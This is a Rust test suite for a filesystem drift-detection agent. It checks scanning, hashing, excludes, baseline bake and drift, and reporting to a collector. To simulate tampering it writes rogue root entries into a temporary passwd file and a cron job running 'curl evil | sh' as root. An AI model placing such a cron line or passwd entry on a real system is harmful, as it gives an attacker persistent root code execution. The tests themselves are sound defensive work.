use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::{Duration, Instant};

use phoenix_wire::drift::{diff, root_of_entries};
use phoenix_wire::FileEntry;
use proptest::prelude::*;

use super::watch::Baseline;
use super::*;

fn scanner(root: &Path, excludes: &[&str]) -> Scanner {
    Scanner::new(&[root.to_path_buf()], Excludes::new(excludes), 2)
}

fn entry(t: &Tree, p: &Path) -> FileEntry {
    t.get(&path_text(p))
        .unwrap_or_else(|| panic!("no entry for {}", p.display()))
}

fn sample_tree(dir: &Path) {
    fs::create_dir_all(dir.join("etc/nginx/sites")).unwrap();
    fs::write(dir.join("etc/nginx/nginx.conf"), "worker_processes 2;\n").unwrap();
    fs::write(dir.join("etc/nginx/sites/default"), "server {}\n").unwrap();
    fs::write(dir.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\n").unwrap();
    symlink("nginx/nginx.conf", dir.join("etc/link")).unwrap();
}

#[test]
fn kinds_and_attributes_are_recorded_and_fifos_never_block() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let fifo = d.path().join("etc/fifo");
    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: mkfifo on a NUL-terminated path we own.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    fs::set_permissions(
        d.path().join("etc/passwd"),
        fs::Permissions::from_mode(0o640),
    )
    .unwrap();
    let t = scanner(d.path(), &[]).full_scan();
    let f = entry(&t, &d.path().join("etc/passwd"));
    assert_eq!((f.kind, f.mode), ('f', 0o640));
    assert_eq!(
        f.hash,
        blake3::hash(b"root:x:0:0::/root:/bin/sh\n")
            .to_hex()
            .to_string()
    );
    assert_eq!(entry(&t, &d.path().join("etc/nginx")).kind, 'd');
    let l = entry(&t, &d.path().join("etc/link"));
    assert_eq!(
        (l.kind, l.target.as_deref()),
        ('l', Some("nginx/nginx.conf"))
    );
    assert_eq!(entry(&t, &fifo).kind, 'o');
    // The root over cached leaves equals the wire crate's root over the plain entries.
    assert_eq!(t.root(), root_of_entries(&t.entries()));
    // Sorted by path, as the manifest requires.
    let e = t.entries();
    assert!(e.windows(2).all(|w| w[0].path < w[1].path));
}

#[test]
fn same_files_created_in_another_order_give_the_same_root() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    let names = ["x", "a", "m/b", "m/a", "z/y/q"];
    for n in names {
        let p = a.path().join("t").join(n);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, n).unwrap();
    }
    for n in names.iter().rev() {
        let p = b.path().join("t").join(n);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, n).unwrap();
    }
    // Same tree at two locations: compare with paths made relative.
    let rel = |t: &Tree, base: &Path| -> Vec<FileEntry> {
        let prefix = path_text(base);
        t.entries()
            .into_iter()
            .map(|mut e| {
                e.path = e.path.strip_prefix(&prefix).unwrap().to_string();
                e
            })
            .collect()
    };
    let ta = scanner(&a.path().join("t"), &[]).full_scan();
    let tb = scanner(&b.path().join("t"), &[]).full_scan();
    assert_eq!(
        root_of_entries(&rel(&ta, a.path())),
        root_of_entries(&rel(&tb, b.path()))
    );
}

#[test]
fn one_file_change_moves_the_root_and_costs_one_hash() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let s = scanner(d.path(), &[]);
    let mut t = s.full_scan();
    let before = t.root();
    let hashed = s.files_hashed();
    let conf = d.path().join("etc/nginx/nginx.conf");
    fs::write(&conf, "worker_processes 4;\n").unwrap();
    s.refresh(&mut t, [conf.as_path()]);
    assert_eq!(
        s.files_hashed() - hashed,
        1,
        "an event for one file re-reads only that file"
    );
    assert_ne!(t.root(), before);
    assert_eq!(
        t.root(),
        s.full_scan().root(),
        "incremental and full scans agree"
    );
    // A directory event re-walks but reads only files whose inode, size or times moved.
    let hashed = s.files_hashed();
    fs::write(d.path().join("etc/nginx/sites/new"), "x").unwrap();
    s.refresh(&mut t, [d.path().join("etc/nginx").as_path()]);
    assert_eq!(s.files_hashed() - hashed, 1);
    assert_eq!(t.root(), s.full_scan().root());
}

#[test]
fn chmod_chown_and_symlink_retarget_are_named() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let s = scanner(d.path(), &[]);
    let base = s.full_scan();
    let passwd = d.path().join("etc/passwd");
    fs::set_permissions(&passwd, fs::Permissions::from_mode(0o666)).unwrap();
    let link = d.path().join("etc/link");
    fs::remove_file(&link).unwrap();
    symlink("/tmp/elsewhere", &link).unwrap();
    let mut cur = base.clone();
    s.refresh(&mut cur, [passwd.as_path(), link.as_path()]);
    assert_ne!(cur.root(), base.root());
    let changes = diff(&base.entries(), &cur.entries());
    let by_path = |p: &Path| {
        changes
            .iter()
            .find(|c| c.path == path_text(p))
            .unwrap_or_else(|| panic!("{} not in {changes:?}", p.display()))
            .attrs
            .clone()
    };
    assert_eq!(by_path(&passwd), vec!["mode"]);
    assert_eq!(by_path(&link), vec!["target"]);
    assert_eq!(changes.len(), 2, "{changes:?}");
}

#[test]
fn removal_and_addition_of_a_subtree_via_events() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let s = scanner(d.path(), &[]);
    let base = s.full_scan();
    let mut t = base.clone();
    let nginx = d.path().join("etc/nginx");
    let away = tempfile::tempdir().unwrap();
    fs::rename(&nginx, away.path().join("moved-out")).unwrap();
    s.refresh(&mut t, [nginx.as_path()]);
    assert!(
        t.get(&path_text(&nginx.join("sites/default"))).is_none(),
        "a vanished directory takes its subtree with it"
    );
    let added = d.path().join("etc/conf.d");
    fs::create_dir_all(added.join("deep")).unwrap();
    fs::write(added.join("deep/file"), "new").unwrap();
    s.refresh(&mut t, [added.as_path()]);
    let changes = diff(&base.entries(), &t.entries());
    assert!(
        changes
            .iter()
            .any(|c| c.change == "added" && c.path.ends_with("etc/conf.d/deep/file")),
        "{changes:?}"
    );
    assert!(
        changes
            .iter()
            .any(|c| c.change == "removed" && c.path.ends_with("etc/nginx/sites/default")),
        "{changes:?}"
    );
    assert_eq!(t.root(), s.full_scan().root());
}

#[test]
fn excludes_keep_paths_out_and_are_not_descended() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    fs::write(d.path().join("etc/passwd-"), "old").unwrap();
    fs::write(d.path().join("etc/notes~"), "old").unwrap();
    fs::create_dir_all(d.path().join("etc/cache/deep")).unwrap();
    fs::write(d.path().join("etc/cache/deep/x"), "x").unwrap();
    let cache = format!("{}/etc/cache/**", path_text(d.path()));
    let s = Scanner::new(
        &[d.path().to_path_buf()],
        Excludes::new(&[DEFAULT_EXCLUDES, &[cache.as_str(), "*.conf"]].concat()),
        1,
    );
    let t = s.full_scan();
    let paths: Vec<String> = t.entries().into_iter().map(|e| e.path).collect();
    for gone in [
        "etc/passwd-",
        "etc/notes~",
        "etc/cache",
        "etc/cache/deep/x",
        "etc/nginx/nginx.conf",
    ] {
        assert!(
            !paths.iter().any(|p| p.ends_with(gone)),
            "{gone} should be excluded: {paths:?}"
        );
    }
    assert!(paths.iter().any(|p| p.ends_with("etc/passwd")));
    // Events under an excluded directory are ignored too.
    assert!(!s.covers(&d.path().join("etc/cache/deep/x")));
    assert!(s.covers(&d.path().join("etc/passwd")));
    assert!(!s.covers(Path::new("/somewhere/else")));
}

/// Drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH for the calling thread only (capabilities are
/// per thread on Linux), so a root test process can meet an unreadable file for real. Threads
/// spawned afterwards inherit the reduced set.
fn drop_dac_caps_for_this_thread() {
    #[repr(C)]
    struct Header {
        version: u32,
        pid: i32,
    }
    #[repr(C)]
    #[derive(Clone, Copy, Default)]
    struct Data {
        effective: u32,
        permitted: u32,
        inheritable: u32,
    }
    let mut h = Header {
        version: 0x2008_0522,
        pid: 0,
    };
    let mut data = [Data::default(); 2];
    // SAFETY: capget/capset with a v3 header and two data slots, as the kernel ABI requires.
    unsafe {
        if libc::syscall(libc::SYS_capget, &mut h as *mut Header, data.as_mut_ptr()) != 0 {
            return;
        }
        let dac = (1 << 1) | (1 << 2);
        data[0].effective &= !dac;
        data[0].permitted &= !dac;
        libc::syscall(libc::SYS_capset, &mut h as *mut Header, data.as_ptr());
    }
}

#[test]
fn unreadable_files_become_error_entries_without_aborting() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let secret = d.path().join("etc/shadow");
    fs::write(&secret, "root:*:").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o000)).unwrap();
    let closed = d.path().join("etc/closed");
    fs::create_dir(&closed).unwrap();
    fs::write(closed.join("inside"), "x").unwrap();
    fs::set_permissions(&closed, fs::Permissions::from_mode(0o000)).unwrap();
    let root = d.path().to_path_buf();
    let (t, baseline) = std::thread::spawn(move || {
        drop_dac_caps_for_this_thread();
        let s = scanner(&root, &[]);
        (s.full_scan(), s)
    })
    .join()
    .unwrap();
    fs::set_permissions(&closed, fs::Permissions::from_mode(0o755)).unwrap();
    let e = entry(&t, &secret);
    assert_eq!(
        (e.kind, e.error.as_deref(), e.mode),
        ('e', Some("permission denied"), 0)
    );
    let c = entry(&t, &closed);
    assert_eq!(
        c.kind, 'e',
        "a directory that cannot be listed is an error entry"
    );
    // The rest of the tree is still there.
    assert_eq!(entry(&t, &d.path().join("etc/passwd")).kind, 'f');
    // Readable again (root with its capabilities): reported as an `error` change.
    let now = baseline.full_scan();
    let changes = diff(&t.entries(), &now.entries());
    let sc = changes
        .iter()
        .find(|c| c.path == path_text(&secret))
        .unwrap();
    assert_eq!(sc.attrs, vec!["error"], "{changes:?}");
}

#[test]
fn path_text_is_lossless() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    assert_eq!(path_text(Path::new("/etc/a b")), "/etc/a b");
    let bad = path_text(Path::new(OsStr::from_bytes(b"/etc/\xff")));
    let lit = path_text(Path::new("/etc/\\xFF"));
    assert_ne!(
        bad, lit,
        "a non-UTF-8 name and a literal backslash name must not collide"
    );
}

#[test]
fn rfc3339_known_dates() {
    let at = |s: u64| rfc3339_utc(std::time::UNIX_EPOCH + Duration::from_secs(s));
    assert_eq!(at(0), "1970-01-01T00:00:00Z");
    assert_eq!(at(951_782_400), "2000-02-29T00:00:00Z");
    assert_eq!(at(1_700_000_000), "2023-11-14T22:13:20Z");
}

#[test]
fn bake_then_drift_round_trip() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let out = d.path().join("etc/baseline.json");
    let args = BakeArgs {
        drift_path: vec![d.path().join("etc")],
        drift_exclude: vec!["*.bak".into()],
        image_id: "img-7".into(),
        out: out.clone(),
        register: None,
        token: None,
    };
    assert_eq!(bake(args).unwrap(), 0);
    let m = load_baseline(&out).unwrap();
    assert_eq!(m.image_id, "img-7");
    assert!(
        m.excludes.iter().any(|e| e == "*.bak")
            && m.excludes.iter().any(|e| e == "/etc/machine-id")
    );
    assert!(
        !m.entries.iter().any(|e| e.path.ends_with("baseline.json")),
        "the manifest excludes itself"
    );
    let drift_args = || DriftArgs {
        baseline: Some(out.clone()),
        state_dir: d.path().to_path_buf(),
        json: true,
    };
    assert_eq!(drift(drift_args()).unwrap(), 0);
    fs::write(d.path().join("etc/passwd"), "evil::0:0::/:/bin/sh\n").unwrap();
    fs::write(d.path().join("etc/x.bak"), "ignored").unwrap();
    assert_eq!(drift(drift_args()).unwrap(), 1);
    let e = bake(BakeArgs {
        drift_path: vec![d.path().into()],
        drift_exclude: vec![],
        image_id: "bad id".into(),
        out: out.clone(),
        register: None,
        token: None,
    })
    .unwrap_err();
    assert!(e.to_string().contains("not a valid id"));
}

#[test]
fn register_reports_the_collector_answer() {
    use std::io::{BufRead, BufReader, Write};
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", l.local_addr().unwrap());
    let server = std::thread::spawn(move || {
        let mut seen = Vec::new();
        for status in ["201 Created", "403 Forbidden"] {
            let (s, _) = l.accept().unwrap();
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut head = String::new();
            let mut len = 0;
            loop {
                let mut line = String::new();
                r.read_line(&mut line).unwrap();
                if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
                    len = v.trim().parse().unwrap();
                }
                head.push_str(&line);
                if line == "\r\n" {
                    break;
                }
            }
            let mut body = vec![0; len];
            std::io::Read::read_exact(&mut r, &mut body).unwrap();
            seen.push((head, body));
            let msg = "{\"error\":\"nope\"}";
            write!(
                &s,
                "HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{msg}",
                msg.len()
            )
            .unwrap();
        }
        seen
    });
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let m = make_manifest(&scanner(d.path(), &[]), "img-9");
    let json = serde_json::to_vec(&m).unwrap();
    assert_eq!(register(&url, Some("pipe-t"), &m, &json).unwrap(), 201);
    let e = register(&url, Some("wrong"), &m, &json)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("403") && e.contains("nope") && e.contains("pipeline token"),
        "{e}"
    );
    let seen = server.join().unwrap();
    assert!(
        seen[0].0.starts_with("POST /v1/images/img-9/baseline "),
        "{}",
        seen[0].0
    );
    assert!(seen[0].0.contains("Bearer pipe-t"));
    let back: phoenix_wire::drift::Manifest = serde_json::from_slice(&seen[0].1).unwrap();
    assert_eq!(back, m);
}

fn test_ctx(state: &Path) -> crate::source::Ctx {
    let spool = Arc::new(crate::spool::Spool::open(&state.join("spool"), 64 << 20).unwrap());
    let identity = phoenix_wire::Identity {
        instance_id: "i-1".into(),
        image_id: "img".into(),
        ..Default::default()
    };
    crate::source::Ctx {
        identity: Arc::new(identity),
        spool,
        state_dir: state.to_path_buf(),
        interval: Duration::from_secs(10),
        drift_link: Default::default(),
    }
}

/// Wait for the next queued drift state, taking it off the spool.
fn next_state(ctx: &crate::source::Ctx, within: Duration) -> Option<phoenix_wire::DriftState> {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if let Some(e) = ctx.spool.oldest(Duration::from_millis(100)) {
            let r = phoenix_wire::decode(&e.body, true, &phoenix_wire::Limits::default()).unwrap();
            ctx.spool.ack(&e, &ctx.state_dir).unwrap();
            return r.drift;
        }
    }
    None
}

#[test]
fn drift_source_reports_changes_within_a_second() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let watched = d.path().join("etc");
    let s = Scanner::new(
        std::slice::from_ref(&watched),
        Excludes::new(DEFAULT_EXCLUDES),
        1,
    );
    let base = s.full_scan();
    let baseline = Baseline {
        root: base.root(),
        entries: base.entries(),
        hash_version: phoenix_wire::drift::HASH_VERSION,
    };
    let state = tempfile::tempdir().unwrap();
    let ctx = test_ctx(state.path());
    let src = Box::new(DriftSource::new(
        s.clone(),
        Some(baseline),
        Duration::from_secs(3600),
    ));
    let c2 = ctx.clone();
    let h = std::thread::spawn(move || crate::source::Source::run(src, c2));
    let first = next_state(&ctx, Duration::from_secs(10)).expect("first drift state");
    assert_eq!(first.hash, base.root());
    assert_eq!(first.baseline.as_deref(), Some(base.root().as_str()));
    assert!(first.changes.is_empty());
    assert_eq!(first.entries_list.as_ref().map(Vec::len), Some(base.len()));

    let passwd = watched.join("passwd");
    let t = Instant::now();
    fs::write(&passwd, "mallory::0:0::/:/bin/sh\n").unwrap();
    let st = next_state(&ctx, Duration::from_secs(5)).expect("a state after the change");
    assert!(
        t.elapsed() < Duration::from_secs(1),
        "took {:?}",
        t.elapsed()
    );
    assert_eq!(st.changes.len(), 1, "{:?}", st.changes);
    assert_eq!(
        (st.changes[0].path.as_str(), st.changes[0].attrs.clone()),
        (path_text(&passwd).as_str(), vec!["content".to_string()])
    );

    // A new file in a new directory, created right after the directory.
    fs::create_dir(watched.join("cron.d")).unwrap();
    fs::write(
        watched.join("cron.d/job"),
        "* * * * * root curl evil | sh\n",
    )
    .unwrap();
    let mut st = next_state(&ctx, Duration::from_secs(5)).expect("a state after the add");
    while !st.changes.iter().any(|c| c.path.ends_with("cron.d/job")) {
        st = next_state(&ctx, Duration::from_secs(5)).expect("the added file is reported");
    }
    // Reverting everything makes it clean again.
    fs::write(&passwd, "root:x:0:0::/root:/bin/sh\n").unwrap();
    fs::remove_dir_all(watched.join("cron.d")).unwrap();
    let mut st = next_state(&ctx, Duration::from_secs(5)).expect("a state after the revert");
    while st.hash != base.root() {
        st = next_state(&ctx, Duration::from_secs(5)).expect("clean again");
    }
    assert!(st.changes.is_empty());
    ctx.spool.stop();
    h.join().unwrap().unwrap();
}

#[test]
fn lost_events_force_a_full_rescan_with_a_note() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let s = scanner(d.path(), &[]);
    let src = DriftSource::new(s.clone(), None, Duration::from_secs(3600));
    let mut t = s.full_scan();
    // A change inotify never told us about...
    fs::write(d.path().join("etc/passwd"), "changed behind inotify's back").unwrap();
    let overflows = crate::counters::drift_overflows.load(std::sync::atomic::Ordering::Relaxed);
    let rescan = notify::Event::new(notify::EventKind::Other).set_flag(notify::event::Flag::Rescan);
    let note = src.apply(&mut t, vec![Ok(rescan)]);
    // ...is found by the rescan that the overflow flag forces.
    assert!(note.unwrap().contains("overflow"));
    assert_eq!(t.root(), s.full_scan().root());
    assert!(
        crate::counters::drift_overflows.load(std::sync::atomic::Ordering::Relaxed) > overflows
    );
    let limit = notify::Error::new(notify::ErrorKind::MaxFilesWatch);
    assert!(src
        .apply(&mut t, vec![Err(limit)])
        .unwrap()
        .contains("max_user_watches"));
}

fn arb_files() -> impl Strategy<Value = Vec<(String, Vec<u8>, u32)>> {
    prop::collection::btree_map(
        "[a-d]{1,2}(/[a-d]{1,2}){0,2}",
        (
            prop::collection::vec(any::<u8>(), 0..64),
            prop::sample::select(vec![0o600u32, 0o644, 0o755]),
        ),
        1..12,
    )
    .prop_map(|m| m.into_iter().map(|(k, (c, mode))| (k, c, mode)).collect())
}

fn materialise(root: &Path, files: &[(String, Vec<u8>, u32)]) -> Vec<PathBuf> {
    let mut made = Vec::new();
    for (name, content, mode) in files {
        let p = root.join(format!("{name}.f"));
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, content).unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(*mode)).unwrap();
        made.push(p);
    }
    made
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]
    #[test]
    fn incremental_refresh_matches_full_scan(files in arb_files(), pick in any::<prop::sample::Index>(), what in 0u8..3) {
        let d = tempfile::tempdir().unwrap();
        let root = d.path().join("t");
        let made = materialise(&root, &files);
        let s = Scanner::new(std::slice::from_ref(&root), Excludes::default(), 2);
        let mut t = s.full_scan();
        let before = t.root();
        let p = &made[pick.index(made.len())];
        match what {
            0 => fs::write(p, b"different content").unwrap(),
            1 => fs::set_permissions(p, fs::Permissions::from_mode(0o604)).unwrap(),
            _ => fs::remove_file(p).unwrap(),
        }
        s.refresh(&mut t, [p.as_path()]);
        let full = s.full_scan();
        prop_assert_eq!(t.root(), full.root());
        prop_assert_eq!(t.entries(), full.entries());
        // Every one of the three edits changes something the entry records.
        prop_assert_ne!(t.root(), before);
    }
}

/// Wait for the next queued report of any kind, taking it off the spool.
fn next_report(ctx: &crate::source::Ctx, within: Duration) -> Option<phoenix_wire::Report> {
    let deadline = Instant::now() + within;
    while Instant::now() < deadline {
        if let Some(e) = ctx.spool.oldest(Duration::from_millis(100)) {
            let r = phoenix_wire::decode(&e.body, true, &phoenix_wire::Limits::default()).unwrap();
            ctx.spool.ack(&e, &ctx.state_dir).unwrap();
            return Some(r);
        }
    }
    None
}

#[test]
fn every_report_carries_the_root_and_a_resend_request_gets_the_full_state() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    let watched = d.path().join("etc");
    let s = Scanner::new(
        std::slice::from_ref(&watched),
        Excludes::new(DEFAULT_EXCLUDES),
        1,
    );
    let base = s.full_scan();
    let baseline = Baseline {
        root: base.root(),
        entries: base.entries(),
        hash_version: phoenix_wire::drift::HASH_VERSION,
    };
    // Drifted before the agent starts, as a box whose drift the collector forgot.
    fs::write(watched.join("passwd"), "mallory::0:0::/:/bin/sh\n").unwrap();
    let state = tempfile::tempdir().unwrap();
    let ctx = test_ctx(state.path());
    assert_eq!(
        ctx.report().drift_root,
        None,
        "no root before the first scan"
    );
    let src = Box::new(DriftSource::new(
        s.clone(),
        Some(baseline),
        Duration::from_secs(3600),
    ));
    let c2 = ctx.clone();
    let h = std::thread::spawn(move || crate::source::Source::run(src, c2));
    let first = next_report(&ctx, Duration::from_secs(10)).expect("first drift report");
    let fd = first.drift.clone().expect("drift state");
    assert_eq!(first.drift_root.as_deref(), Some(fd.hash.as_str()));
    assert_eq!(fd.changes.len(), 1, "{:?}", fd.changes);
    // Any other report (metrics, logs) built from now on carries the root too.
    assert_eq!(ctx.report().drift_root.as_deref(), Some(fd.hash.as_str()));

    // Nothing changes, so nothing more is queued...
    assert!(next_report(&ctx, Duration::from_millis(800)).is_none());
    // ...until an ack asks for the state again.
    let t = Instant::now();
    ctx.drift_link.on_ack(&phoenix_wire::Ack {
        accepted: first.seq + 1,
        duplicate: false,
        rejected_points: 0,
        resend_drift: true,
        ..Default::default()
    });
    let again = next_report(&ctx, Duration::from_secs(5)).expect("the state, resent");
    assert!(t.elapsed() < Duration::from_secs(1), "{:?}", t.elapsed());
    let ad = again.drift.expect("a drift state");
    assert_eq!(ad.hash, fd.hash);
    assert_eq!(ad.changes, fd.changes);
    assert_eq!(ad.entries_list, fd.entries_list, "the full entry list");
    // An ack of a batch queued before the resend still asks; that request is stale.
    ctx.drift_link.on_ack(&phoenix_wire::Ack {
        accepted: again.seq - 1,
        duplicate: false,
        rejected_points: 0,
        resend_drift: true,
        ..Default::default()
    });
    assert!(next_report(&ctx, Duration::from_millis(800)).is_none());
    ctx.spool.stop();
    h.join().unwrap().unwrap();
}

/// A drift report's list is serialised straight from the tree; the collector must decode
/// exactly the entries a built list would have carried, in the same order, under the same root.
#[test]
fn the_streamed_entry_list_decodes_to_the_built_one() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    fs::write(d.path().join("etc/unicode é ✓"), "x").unwrap();
    let tree = scanner(d.path(), &[]).full_scan();
    let built = tree.entries();
    assert!(built.len() >= 7, "{built:?}");
    let state = phoenix_wire::DriftState {
        hash: tree.root(),
        entries: tree.len() as u64,
        entries_list: Some(tree.entries_list()),
        baseline: None,
        changes: vec![],
        ts: 0,
        note: None,
        hash_version: None,
        baseline_hash_version: None,
    };
    let report = phoenix_wire::Report::new(phoenix_wire::Identity::default()).with_drift(state);
    let body = phoenix_wire::encode(&report);
    let json = phoenix_wire::gunzip_limited(&body, 1 << 20).unwrap();
    let back: phoenix_wire::Report = serde_json::from_slice(&json).unwrap();
    let list = back.drift.unwrap().entries_list.unwrap();
    assert_eq!(list, built);
    assert_eq!(root_of_entries(&list), tree.root());
}

/// `run` scans on one thread, hashing as it walks; bake and drift walk first and hash on
/// several. Both must give the same entries and root, or a clean box would show drift.
#[test]
fn a_one_thread_scan_and_a_parallel_one_give_the_same_tree() {
    let d = tempfile::tempdir().unwrap();
    sample_tree(d.path());
    for i in 0..150 {
        let sub = d.path().join(format!("etc/d{}/e{}", i % 7, i % 3));
        fs::create_dir_all(&sub).unwrap();
        fs::write(
            sub.join(format!("f{i}")),
            format!("content {i}\n").repeat(i),
        )
        .unwrap();
    }
    fs::create_dir_all(d.path().join("etc/empty")).unwrap();
    fs::write(d.path().join("etc/skip.swp"), "x").unwrap();
    let one = Scanner::new(&[d.path().to_path_buf()], Excludes::new(&["*.swp"]), 1).full_scan();
    let four = Scanner::new(&[d.path().to_path_buf()], Excludes::new(&["*.swp"]), 4).full_scan();
    assert!(one.len() > 170, "{}", one.len());
    assert_eq!(one.entries(), four.entries());
    assert_eq!(one.root(), four.root());
    assert!(one
        .get(&path_text(&d.path().join("etc/skip.swp")))
        .is_none());
    assert_eq!(entry(&one, &d.path().join("etc/empty")).kind, 'd');
}
